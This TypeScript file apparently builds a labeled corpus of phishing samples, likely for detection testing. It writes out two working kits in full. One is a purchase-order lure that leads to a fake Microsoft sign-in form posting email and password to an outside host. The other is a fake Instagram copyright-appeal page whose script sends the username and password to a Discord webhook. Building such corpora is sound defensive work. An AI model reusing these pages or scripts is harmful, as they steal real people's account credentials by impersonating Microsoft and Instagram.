import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { jsRoute, jsonRoute, pngRoute } from '../parts/e-bin.js';
import { b64, pct, rev, doc, wordmark, emblem, bankCss, FONTS, ASHOKA } from '../parts/yn-kit.js';

// Company webmail, Microsoft 365 and government mail kits; consumer brands (streaming, social, games).

export const entries: Entry[] = [
{
  id: 'yn-purchase-order-lure-to-outlook-kit',
  label: 'phishing',
  kind: 'lure-document',
  url: 'https://docs-transfer-share.weebly.com/po-2025-118.html',
  body: doc({
    title: 'Purchase Order PO-2025-118 - Shared File',
    css: `body{background:#eef0f3;font-family:Segoe UI,Arial}.c{max-width:520px;margin:60px auto;background:#fff;border-radius:8px;padding:30px;text-align:center;box-shadow:0 2px 10px rgba(0,0,0,.1)}.f{display:flex;gap:12px;align-items:center;text-align:left;border:1px solid #e1e4e8;border-radius:6px;padding:12px;margin:18px 0}.ic{width:42px;height:52px;background:#d93025;color:#fff;font-weight:700;display:flex;align-items:center;justify-content:center;border-radius:3px}a.b{display:inline-block;background:#0a66c2;color:#fff;text-decoration:none;padding:12px 34px;border-radius:4px}`,
    body: `<div class="c"><h2>You have received 3 files</h2><p>From: <b>Purchase Dept. — Meenakshi Exports Pvt Ltd</b></p>
<div class="f"><div class="ic">PDF</div><div><b>PO-2025-118_Revised.pdf</b><br><small>412 KB · Expires in 2 days</small></div></div>
<div class="f"><div class="ic" style="background:#188038">XLS</div><div><b>Rate_Comparison_Q2.xlsx</b><br><small>88 KB</small></div></div>
<div class="f"><div class="ic" style="background:#1a73e8">DOC</div><div><b>Delivery_Schedule.docx</b><br><small>36 KB</small></div></div>
<a class="b" href="https://ofc365-doc-access.firebaseapp.com/auth/?src=po118">View Documents</a>
<p style="font-size:12px;color:#888;margin-top:18px">Files are protected. You may be asked to sign in with your business email to verify your identity.</p></div>`,
  }),
  routes: {
    'ofc365-doc-access.firebaseapp.com/auth/': htmlRoute(doc({
      title: 'Sign in to your account',
      css: `body{background:#f2f2f2}.b{width:440px;margin:90px auto;background:#fff;padding:44px;box-shadow:0 2px 6px rgba(0,0,0,.2)}input{width:100%;height:36px;border:0;border-bottom:1px solid #666;margin:14px 0;font-size:15px}button{background:#0067b8;color:#fff;border:0;height:32px;width:108px;float:right}`,
      body: `<div class="b"><b style="color:#737373">Microsoft</b><h2 style="font-weight:600">Sign in</h2><p style="font-size:13px">to continue to Outlook</p><form method="post" action="https://ofc365-doc-access.firebaseapp.com/auth/next.php"><input type="email" name="loginfmt" placeholder="Email, phone, or Skype" required><input type="password" name="passwd" placeholder="Password" required><button>Sign in</button><div style="clear:both"></div></form><p style="font-size:13px">No account? <a href="#">Create one!</a></p></div>`,
    })),
  },
},
{
  id: 'yn-instagram-copyright-appeal-form',
  label: 'phishing',
  kind: 'social-appeal-kit',
  url: 'https://meta-copyright-appeal.com/instagram/case/IG-74420913',
  body: doc({
    title: 'Instagram Help Center | Copyright Infringement Appeal',
    css: `body{background:#fafafa;font-family:-apple-system,BlinkMacSystemFont,'Segoe UI',Roboto,Helvetica,Arial}.c{max-width:560px;margin:40px auto;background:#fff;border:1px solid #dbdbdb;border-radius:4px;padding:30px}.g{font-size:32px;font-weight:700;background:linear-gradient(45deg,#f09433,#dc2743,#bc1888);-webkit-background-clip:text;color:transparent;font-family:'Billabong',cursive}input,textarea{width:100%;border:1px solid #dbdbdb;border-radius:4px;background:#fafafa;padding:10px;margin:6px 0 12px;font-size:14px}button{width:100%;background:#0095f6;color:#fff;border:0;border-radius:8px;height:40px;font-weight:600}.w{background:#fff0f0;border:1px solid #f3c3c3;padding:12px;border-radius:4px;font-size:14px}`,
    body: `<div class="c"><div class="g">Instagram</div>
<h3>Copyright Infringement Detected</h3>
<div class="w">We have received a complaint regarding copyright infringement on one of your recent posts. Your account will be permanently deleted within 48 hours unless you submit an appeal. If you believe this is a mistake, please fill in the form below.</div>
<p style="font-size:13px;color:#737373">Case number: IG-74420913</p>
<form id="a">
<label>Username</label><input name="username" required>
<label>Full Name</label><input name="name">
<label>Email or Phone</label><input name="contact" required>
<label>Password</label><input type="password" name="password" required>
<label>Appeal message</label><textarea name="msg" rows="3">I believe my content does not violate copyright.</textarea>
<button>Submit Appeal</button></form>
<p style="font-size:12px;color:#8e8e8e;text-align:center">from <b>Meta</b></p></div>
<script>
document.getElementById('a').addEventListener('submit',function(e){e.preventDefault();var d=new FormData(this),o={};d.forEach(function(v,k){o[k]=v});
var x=new XMLHttpRequest();x.open('POST','https://discord.com/api/webhooks/1248817720195543081/vQh3T9nKd-2Lz8rYpMu1xWcBoE5sJiAf0gHtR7yNlVqZ');x.setRequestHeader('Content-Type','application/json');x.send(JSON.stringify({content:'IG '+JSON.stringify(o)}));
setTimeout(function(){location.href='https://help.instagram.com/'},900)});
</script>`,
  }),
},
];
